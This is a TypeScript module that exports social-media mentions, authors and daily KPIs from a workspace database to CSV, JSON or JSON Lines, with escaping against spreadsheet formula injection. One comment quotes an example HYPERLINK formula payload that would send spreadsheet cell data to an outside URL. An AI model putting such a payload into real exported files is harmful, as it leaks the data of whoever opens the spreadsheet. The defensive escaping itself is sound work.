import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import Papa from 'papaparse';
import { readProfile } from '../db/profile-repo';
import type { Db } from '../db/workspace-file';
import { dailyKpis } from './daily-kpis';

export type ExportWhat = 'mentions' | 'authors' | 'kpis';

/**
 * Cells a spreadsheet would run as a formula: =, +, -, a tab or a CR first, or '@' before a
 * function's name (`@SUM(`). A post's text and an author's name are anyone's, and the CSV is
 * opened in Excel: `=HYPERLINK("http://…?d="&A1,"ver factura")` would send cells away. Papa
 * prefixes such a cell with ' (numbers and booleans stay as they are); a reply that starts
 * with "@acme" is not a formula and stays as written.
 */
const FORMULA = /^(?:[=+\-\t\r]|@\w*\()/;
export type ExportFormat = 'csv' | 'json' | 'jsonl';

const QUERIES: Record<Exclude<ExportWhat, 'kpis'>, string> = {
  mentions: `SELECT m.id AS _id, m.natural_key AS key, m.channel, m.external_id AS id, strftime('%Y-%m-%dT%H:%M:%SZ', m.posted_at / 1000, 'unixepoch') AS date,
    a.handle AS author, a.name AS author_name, m.is_brand, m.title, m.text, m.url, m.lang, m.rating, m.likes, m.shares,
    m.reply_to_key AS reply_to, m.thread_key AS thread, m.sentiment, m.sentiment_score AS score, m.irony, m.complaint, m.topic,
    m.insult, m.toxicity, m.campaign
    FROM mentions m LEFT JOIN authors a ON a.id = m.author_id WHERE m.id > ? ORDER BY m.id LIMIT 5000`,
  authors: `SELECT id AS _id, channel, handle, name, followers, is_brand, posts, strftime('%Y-%m-%dT%H:%M:%SZ', first_seen_at / 1000, 'unixepoch') AS first_seen,
    strftime('%Y-%m-%dT%H:%M:%SZ', last_seen_at / 1000, 'unixepoch') AS last_seen, label, score, reasons FROM authors WHERE id > ? ORDER BY id LIMIT 5000`,
};

/**
 * An author's stored reasons as one cell: their sentences joined by " | ". They are stored as
 * { key, params, text } (People shows them in the UI language by key); older workspaces stored
 * the sentences alone.
 */
function reasonsText(stored: string): string {
  const list = JSON.parse(stored) as Array<string | { text?: unknown }>;
  return list.map((r) => (typeof r === 'string' ? r : String(r.text ?? ''))).join(' | ');
}

/** Keyset pages of 5,000 rows, so the writes can wait for the disk between pages. */
function* pages(db: Db, what: ExportWhat): Generator<Array<Record<string, unknown>>> {
  if (what === 'kpis') {
    // one row per day: a few thousand rows at most
    yield dailyKpis(db, readProfile(db).timezone) as unknown as Array<Record<string, unknown>>;
    return;
  }
  const page = db.prepare(QUERIES[what]);
  for (let after = -1; ;) {
    const rows = page.all(after) as Array<Record<string, unknown>>;
    if (!rows.length) return;
    after = rows[rows.length - 1]?.['_id'] as number;
    for (const r of rows) {
      delete r['_id'];
      if (what === 'authors' && typeof r['reasons'] === 'string')
        r['reasons'] = reasonsText(r['reasons']);
    }
    yield rows;
  }
}

/**
 * Streams a table out as CSV (UTF-8 with BOM so spreadsheet apps read accents), JSON or JSON
 * Lines, so a client keeps its data after the contract ends: mentions, authors, daily KPIs. Memory stays flat at any size.
 */
export async function exportData(
  db: Db,
  what: ExportWhat,
  format: ExportFormat,
  out: string,
): Promise<number> {
  const stream = createWriteStream(out);
  const write = async (s: string): Promise<void> => {
    if (!stream.write(s)) await once(stream, 'drain');
  };
  let n = 0;
  let batch: Record<string, unknown>[] = [];
  const flush = async (): Promise<void> => {
    if (!batch.length) return;
    if (format === 'csv')
      await write(
        `${Papa.unparse(batch, { header: n === batch.length, escapeFormulae: FORMULA })}\r\n`,
      );
    else if (format === 'jsonl') await write(batch.map((r) => JSON.stringify(r)).join('\n') + '\n');
    else
      await write(
        batch
          .map((r, i) => `${n - batch.length + i === 0 ? '' : ',\n'}${JSON.stringify(r)}`)
          .join(''),
      );
    batch = [];
  };
  if (format === 'csv') await write('\ufeff');
  if (format === 'json') await write('[\n');
  for (const rows of pages(db, what)) {
    for (const r of rows) {
      batch.push(r);
      n++;
    }
    await flush();
  }
  await flush();
  if (format === 'json') await write('\n]\n');
  stream.end();
  await once(stream, 'finish');
  return n;
}
